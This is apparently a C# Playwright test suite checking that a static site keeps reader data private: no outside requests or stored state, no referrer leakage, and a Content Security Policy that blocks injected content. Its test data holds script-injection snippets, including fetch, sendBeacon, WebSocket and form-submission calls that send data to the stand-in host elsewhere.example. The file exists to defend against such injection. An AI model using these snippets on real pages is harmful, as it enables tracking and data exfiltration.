using System.Text.RegularExpressions;
using Microsoft.Playwright;

namespace RecoverySite.BrowserTests;

/// <summary>What a reader opens stays between the reader and the page: from a folder and from a web host.</summary>
public sealed class PrivacyTests(BuiltSite site) : IAsyncLifetime
{
    private PlainServer server = null!;

    public async ValueTask InitializeAsync() => server = await PlainServer.Of(site.Folder);

    public ValueTask DisposeAsync() => server.DisposeAsync();

    [Theory]
    [InlineData("file")]
    [InlineData("http")]
    public async Task No_template_asks_another_place_or_keeps_anything(string way)
    {
        var page = await Open(way);
        var outside = new List<string>();
        page.Context.Request += (_, request) => { if (!request.Url.StartsWith(Address(way, ""), StringComparison.Ordinal)) outside.Add($"{request.Frame.Url} asks for {request.Url}"); };
        foreach (var name in site.Templates)
        {
            await page.GotoAsync(Address(way, name), new() { WaitUntil = WaitUntilState.Load });
            await page.WaitForLoadStateAsync(LoadState.NetworkIdle);
            (await page.EvaluateAsync<string>("JSON.stringify([document.cookie, localStorage.length, sessionStorage.length, window.name, history.state])")).ShouldBe("[\"\",0,0,\"\",null]", name);
        }
        outside.Where(o => !o.EndsWith("/favicon.ico", StringComparison.Ordinal)).ShouldBeEmpty();
        (await page.Context.CookiesAsync()).ShouldBeEmpty();
        (await page.EvaluateAsync<int>("indexedDB.databases().then(all => all.length)")).ShouldBe(0);
    }

    /// <summary>What somebody might smuggle into a page, and the part of the policy that must refuse it.</summary>
    public static TheoryData<string, string, string> Smuggled
    {
        get
        {
            var data = new TheoryData<string, string, string>();
            foreach (var way in new[] { "file", "http" })
                foreach (var (directive, script) in new (string, string)[]
                {
                    ("script-src-elem", "const s = document.createElement('script'); s.textContent = 'window.smuggled = true'; document.body.append(s)"),
                    ("script-src-attr", "document.body.insertAdjacentHTML('beforeend', '<button onclick=\"window.smuggled = true\">x</button>'); document.body.lastChild.click()"),
                    ("script-src-elem", "const s = document.createElement('script'); s.src = 'https://elsewhere.example/s.js'; document.body.append(s)"),
                    ("style-src-elem", "const s = document.createElement('style'); s.textContent = 'main { display: none }'; document.body.append(s)"),
                    ("style-src-attr", "document.querySelector('main').setAttribute('style', 'display: none')"),
                    ("style-src-elem", "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://elsewhere.example/s.css'; document.head.append(l)"),
                    ("img-src", "new Image().src = 'https://elsewhere.example/pixel.png'"),
                    ("connect-src", "fetch('https://elsewhere.example/').catch(() => {})"),
                    ("connect-src", "navigator.sendBeacon('https://elsewhere.example/', 'who')"),
                    ("connect-src", "try { new WebSocket('wss://elsewhere.example/') } catch {}"),
                    ("frame-src", "const f = document.createElement('iframe'); f.src = 'https://elsewhere.example/'; document.body.append(f)"),
                    ("media-src", "const a = document.createElement('audio'); a.src = 'https://elsewhere.example/a.mp3'; document.body.append(a)"),
                    ("object-src", "const o = document.createElement('object'); o.data = 'https://elsewhere.example/o'; document.body.append(o)"),
                    ("form-action", "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://elsewhere.example/\"><input name=q></form>'); document.body.lastChild.submit()"),
                    ("base-uri", "const b = document.createElement('base'); b.href = 'https://elsewhere.example/'; document.head.append(b)"),
                })
                    data.Add(way, directive, script);
            return data;
        }
    }

    [Theory]
    [MemberData(nameof(Smuggled))]
    public async Task The_policy_in_the_page_refuses_what_somebody_smuggles_in(string way, string directive, string script)
    {
        var page = await Open(way);
        var outside = new List<string>();
        await page.Context.RouteAsync("**://elsewhere.example/**", route => { outside.Add(route.Request.Url); return route.AbortAsync(); });
        await page.GotoAsync(Address(way, "index.html"));
        var refused = await page.EvaluateAsync<string>("""
            script => new Promise(answer => {
              addEventListener('securitypolicyviolation', event => answer(event.effectiveDirective));
              setTimeout(() => answer('nothing was refused'), 5000);
              (0, eval)(`(() => { ${script} })()`);
            })
            """, script);
        refused.ShouldBe(directive);
        outside.ShouldBeEmpty();
        (await page.EvaluateAsync<bool>("window.smuggled === undefined && getComputedStyle(document.querySelector('main')).display !== 'none'")).ShouldBeTrue();
        page.Url.ShouldBe(Address(way, "index.html"));
    }

    [Fact]
    public async Task A_link_to_another_site_says_so_and_tells_it_nothing()
    {
        var page = await Open("http");
        var told = new List<string>();
        await page.Context.RouteAsync(url => !url.StartsWith(server.Address, StringComparison.Ordinal), route =>
        {
            told.Add(route.Request.Headers.GetValueOrDefault("referer", "nothing"));
            return route.FulfillAsync(new() { Body = "<title>elsewhere</title>", ContentType = "text/html" });
        });
        foreach (var name in site.Templates.Where(t => !BuiltSite.LeadsOn(site.Html(t))))
        {
            await page.GotoAsync(Address("http", name));
            var links = page.Locator("a[href^='http']").And(page.Locator($"a:not([href^='{server.Address}'])"));
            (await links.EvaluateAllAsync<string[]>("""
                all => all.filter(a => !a.relList.contains('noreferrer') || a.target || !/↗/.test(a.textContent + getComputedStyle(a, '::after').content)).map(a => a.outerHTML)
                """)).ShouldBeEmpty(name);
            if (await links.CountAsync() == 0) continue;
            await links.First.ClickAsync();
            await Assertions.Expect(page).Not.ToHaveURLAsync(new Regex("^" + Regex.Escape(server.Address)));
            (await page.EvaluateAsync<string>("document.referrer")).ShouldBeEmpty(name);
        }
        told.Count.ShouldBeGreaterThan(5);
        told.ShouldAllBe(t => t == "nothing");
    }

    private Task<IPage> Open(string way) => site.Open(isOffline: way == "file");

    private string Address(string way, string name) => way == "file" ? site.Address(name) : server.Address + name;
}
